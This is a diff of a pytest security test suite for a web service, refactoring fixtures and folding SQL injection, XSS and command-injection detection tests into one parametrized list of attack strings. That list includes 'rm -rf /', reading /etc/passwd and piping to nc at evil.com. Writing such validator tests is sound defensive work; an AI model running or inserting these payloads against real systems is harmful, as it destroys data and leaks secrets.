@@ -6,13 +6,13 @@ robots.txt compliance, GDPR compliance, and production monitoring.
 """
 
 import pytest
+import pytest_asyncio
 import asyncio
 import time
 from datetime import datetime, timedelta
-from fastapi.testclient import TestClient
 from unittest.mock import Mock, patch, AsyncMock
 
-from main import create_app
+from app.security import rate_limiting
 from app.security.rate_limiting import RateLimitManager, RateLimitRule, RateLimitType
 from app.security.security import SecurityManager, InputValidator, CryptoManager
 from app.compliance.monitoring import GDPRComplianceManager, DataCategory, ProcessingLawfulBasis
@@ -20,45 +20,83 @@ from app.monitoring.production import ProductionMonitor, MetricType, AlertSeveri
 from app.utils.robots_compliance import RobotsComplianceManager
 
 
-@pytest.fixture
-def test_app():
-    """Create test FastAPI application."""
-    app = create_app()
-    return app
+# (expected violation category, attack string) for the input validation tests
+INJECTION_CASES = [
+    ("sql injection", payload) for payload in [
+        "'; DROP TABLE users; --",
+        "1' OR '1'='1",
+        "UNION SELECT * FROM passwords",
+        "admin'--",
+        "'; DELETE FROM logs; --"
+    ]
+] + [
+    ("xss", payload) for payload in [
+        "<script>alert('xss')</script>",
+        "javascript:alert(1)",
+        "<iframe src='evil.com'></iframe>",
+        "<img src=x onerror=alert(1)>",
+        "vbscript:msgbox('xss')"
+    ]
+] + [
+    ("command injection", payload) for payload in [
+        "test; rm -rf /",
+        "test && cat /etc/passwd",
+        "test | nc evil.com 1337",
+        "test `whoami`",
+        "test $(id)"
+    ]
+]
 
 
 @pytest.fixture
-def client(test_app):
-    """Create test client."""
-    return TestClient(test_app)
+def reset_app_rate_limits():
+    """Clear the app-wide rate limiter's counters after a test so bursts don't leak into the next one."""
+    yield
+    rate_limiting.rate_limiter.in_memory_limiter.requests.clear()
+    rate_limiting.rate_limiter.in_memory_limiter.blocked_clients.clear()
+    rate_limiting.rate_limiter.abuse_detector.client_patterns.clear()
 
 
-@pytest.fixture
+@pytest_asyncio.fixture(scope="module")
 async def rate_limiter():
-    """Create rate limiter for testing."""
+    """Rate limiter initialized once per module; each test uses its own client IPs."""
     limiter = RateLimitManager()
     await limiter.initialize()
-    return limiter
+    yield limiter
+    await limiter.shutdown()
 
 
-@pytest.fixture
+@pytest.fixture(scope="session")
 def security_manager():
-    """Create security manager for testing."""
+    """Security manager shared by the session; validation and crypto calls keep no per-test state."""
     return SecurityManager()
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def compliance_manager():
-    """Create compliance manager for testing."""
+    """Compliance manager shared by the module; each test registers its own data subjects."""
     return GDPRComplianceManager()
 
 
-@pytest.fixture
-async def production_monitor():
-    """Create production monitor for testing."""
+@pytest_asyncio.fixture(scope="module")
+async def shared_production_monitor():
+    """Production monitor initialized once per module and shut down afterwards."""
     monitor = ProductionMonitor()
     await monitor.initialize()
-    return monitor
+    yield monitor
+    await monitor.shutdown()
+
+
+@pytest.fixture
+def production_monitor(shared_production_monitor):
+    """Hand each test the shared monitor and clear what it recorded afterwards."""
+    thresholds = dict(shared_production_monitor.thresholds)
+    yield shared_production_monitor
+    shared_production_monitor.metrics.clear()
+    shared_production_monitor.alerts.clear()
+    shared_production_monitor.last_alerts.clear()
+    shared_production_monitor.health_checks.clear()
+    shared_production_monitor.thresholds = thresholds
 
 
 @pytest.fixture
@@ -102,11 +140,9 @@ class TestRateLimiting:
         """Test abuse detection patterns."""
         client_ip = "suspicious_ip"
         
-        # Simulate rapid requests
-        for i in range(50):
-            rate_limiter.abuse_detector.record_request(
-                client_ip, f"/api/endpoint_{i}", "BotAgent/1.0", is_error=(i % 5 == 0)
-            )
+        # Simulate rapid requests in one burst
+        events = [(client_ip, f"/api/endpoint_{i}", "BotAgent/1.0", i % 5 == 0) for i in range(50)]
+        rate_limiter.abuse_detector.record_requests(events)
         
         # Check if client is marked as suspicious
         is_suspicious, details = rate_limiter.abuse_detector.is_suspicious(client_ip, threshold=0.3)
@@ -139,56 +175,12 @@ class TestRateLimiting:
 class TestSecurityValidation:
     """Test security validation and input sanitization."""
     
-    def test_input_validation_sql_injection(self, security_manager):
-        """Test SQL injection detection."""
-        malicious_inputs = [
-            "'; DROP TABLE users; --",
-            "1' OR '1'='1",
-            "UNION SELECT * FROM passwords",
-            "admin'--",
-            "'; DELETE FROM logs; --"
-        ]
-        
-        for malicious_input in malicious_inputs:
-            sanitized, violations = security_manager.validator.validate_and_sanitize(
-                malicious_input, "test_field"
-            )
-            assert len(violations) > 0
-            assert any("sql injection" in v.lower() for v in violations)
-    
-    def test_input_validation_xss(self, security_manager):
-        """Test XSS detection and sanitization."""
-        xss_inputs = [
-            "<script>alert('xss')</script>",
-            "javascript:alert(1)",
-            "<iframe src='evil.com'></iframe>",
-            "<img src=x onerror=alert(1)>",
-            "vbscript:msgbox('xss')"
-        ]
-        
-        for xss_input in xss_inputs:
-            sanitized, violations = security_manager.validator.validate_and_sanitize(
-                xss_input, "test_field"
-            )
-            assert len(violations) > 0
-            assert any("xss" in v.lower() for v in violations)
-    
-    def test_input_validation_command_injection(self, security_manager):
-        """Test command injection detection."""
-        command_injections = [
-            "test; rm -rf /",
-            "test && cat /etc/passwd",
-            "test | nc evil.com 1337",
-            "test `whoami`",
-            "test $(id)"
-        ]
-        
-        for injection in command_injections:
-            sanitized, violations = security_manager.validator.validate_and_sanitize(
-                injection, "test_field"
-            )
-            assert len(violations) > 0
-            assert any("command injection" in v.lower() for v in violations)
+    @pytest.mark.parametrize("category,payload", INJECTION_CASES)
+    def test_input_validation(self, security_manager, category, payload):
+        """Test SQL injection, XSS and command injection detection."""
+        sanitized, violations = security_manager.validator.validate_and_sanitize(payload, "test_field")
+        assert len(violations) > 0
+        assert any(category in v.lower() for v in violations)
     
     def test_crypto_manager_encryption(self, security_manager):
         """Test encryption and decryption."""
@@ -484,8 +476,10 @@ Allow: /
         assert "blocked_domains" in stats
         assert "cache_hit_rate" in stats
         assert isinstance(stats["cache_hit_rate"], float)
+        assert {"hits", "misses", "currsize"} <= stats["parse_cache"].keys()
 
 
+@pytest.mark.usefixtures("reset_app_rate_limits")
 class TestIntegrationSecurity:
     """Test full security integration."""
     
@@ -493,34 +487,35 @@ class TestIntegrationSecurity:
     async def test_security_middleware_integration(self, client):
         """Test security middleware integration with API endpoints."""
         # Test that security headers are added
-        response = client.get("/api/v1/health")
+        response = await client.get("/api/v1/health")
         
         # Should have security headers
         assert "X-Security-Level" in response.headers
         assert "X-Compliance-Status" in response.headers
         assert response.headers["X-Security-Level"] == "enterprise"
     
-    def test_rate_limiting_integration(self, client):
-        """Test rate limiting integration with real requests."""
-        # Make multiple rapid requests to trigger rate limiting
-        responses = []
-        for i in range(20):  # Exceed typical rate limits
-            response = client.get("/api/v1/health")
-            responses.append(response)
+    @pytest.mark.asyncio
+    async def test_rate_limiting_integration(self, client):
+        """Test rate limiting integration with a concurrent burst of real requests."""
+        # Fire the requests together to trigger rate limiting
+        responses = await asyncio.gather(*(
+            client.get("/api/v1/health") for _ in range(20)  # Exceed typical rate limits
+        ))
         
         # Should eventually get rate limited (429 status)
         status_codes = [r.status_code for r in responses]
         assert 429 in status_codes or all(code == 200 for code in status_codes)
     
-    def test_security_endpoint_access(self, client):
+    @pytest.mark.asyncio
+    async def test_security_endpoint_access(self, client):
         """Test security endpoint access control."""
         # Test without authentication
-        response = client.get("/api/v1/security/status")
+        response = await client.get("/api/v1/security/status")
         assert response.status_code == 401
         
         # Test with authentication (mock token)
         headers = {"Authorization": "Bearer test_token"}
-        response = client.get("/api/v1/security/status", headers=headers)
+        response = await client.get("/api/v1/security/status", headers=headers)
         # Should work with token (or return 500 if systems not fully initialized in test)
         assert response.status_code in [200, 500]
     
@@ -533,7 +528,7 @@ class TestIntegrationSecurity:
             mock_compliance.record_data_processing = AsyncMock(return_value="test_record_id")
             
             # Make API request
-            response = client.post("/api/v1/search", json={
+            response = await client.post("/api/v1/search", json={
                 "query": "test query",
                 "country": "US"
             })